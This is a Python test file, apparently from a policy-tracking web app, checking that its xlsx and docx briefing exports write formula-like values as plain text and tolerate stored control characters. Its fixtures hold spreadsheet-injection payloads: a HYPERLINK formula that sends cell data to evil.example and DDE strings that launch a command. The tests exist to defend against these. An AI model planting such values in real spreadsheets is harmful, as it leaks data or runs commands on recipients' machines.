"""Exports write text as text: a value that starts with = + - @ (or tab/CR) never becomes a formula,
and control characters saved before input was checked cannot break the briefing downloads."""

from __future__ import annotations

import io

from docx import Document
from openpyxl import load_workbook

from policyledger.formats.cells import formula_cells

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
PREFIXED = ["+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
CONTROL = "第一批\x0b消费券\x08已发放\x1f。"  # no NUL: PostgreSQL cannot store it


def _poison(programme, units):
    from policyledger.web.documents.models import Measure
    from policyledger.web.tracking.models import Report

    Report.objects.update(narrative=HOSTILE)
    Measure.objects.filter(number="一、").update(text="=1+1")
    Measure.objects.filter(number="二、").update(heading=PREFIXED[1], text=PREFIXED[2])
    units["市商务局"].name = "@cmd|' /C calc'!A0"
    units["市商务局"].save()


def test_briefing_xlsx_writes_no_formula(programme, units, login, alice):
    _poison(programme, units)
    response = login(alice).get("/tracking/briefings/ledger.xlsx", {"period": "2022年9月"})
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    assert formula_cells(book) == []
    values = {c.value for s in book.worksheets for row in s.iter_rows() for c in row}
    # Written as they are, not mangled.
    assert HOSTILE in values and "=1+1" in values and PREFIXED[2] in values
    cell = next(c for row in book["进度台账"].iter_rows() for c in row if c.value == HOSTILE)
    assert cell.data_type == "s" and cell.quotePrefix


def test_ledger_xlsx_writes_no_formula(tasks, units, login, alice):
    from policyledger.web.documents.models import Measure

    Measure.objects.update(heading="=cmd|' /C calc'!A0")
    units["市财政局"].name = "+1+2"
    units["市财政局"].save()
    response = login(alice).get("/tracking/tasks/ledger.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    assert formula_cells(book) == []
    values = {c.value for row in book.active.iter_rows() for c in row}
    assert "=cmd|' /C calc'!A0" in values and "+1+2" in values
    # Numbers stay numbers.
    assert isinstance(book.active["A2"].value, int)


def test_old_control_characters_do_not_break_downloads(programme, login, alice):
    from policyledger.web.tracking.models import Report

    Report.objects.update(narrative=CONTROL)  # saved before input was checked
    client = login(alice)
    xlsx = client.get("/tracking/briefings/ledger.xlsx", {"period": "2022年9月"})
    assert xlsx.status_code == 200
    values = {c.value for row in load_workbook(io.BytesIO(xlsx.content))["进度台账"].iter_rows()
              for c in row}  # fmt: skip
    assert "第一批消费券已发放。" in values
    docx = client.get("/tracking/briefings/briefing.docx", {"period": "2022年9月"})
    assert docx.status_code == 200
    text = "\n".join(p.text for p in Document(io.BytesIO(docx.content)).paragraphs)
    assert "第一批消费券已发放" in text
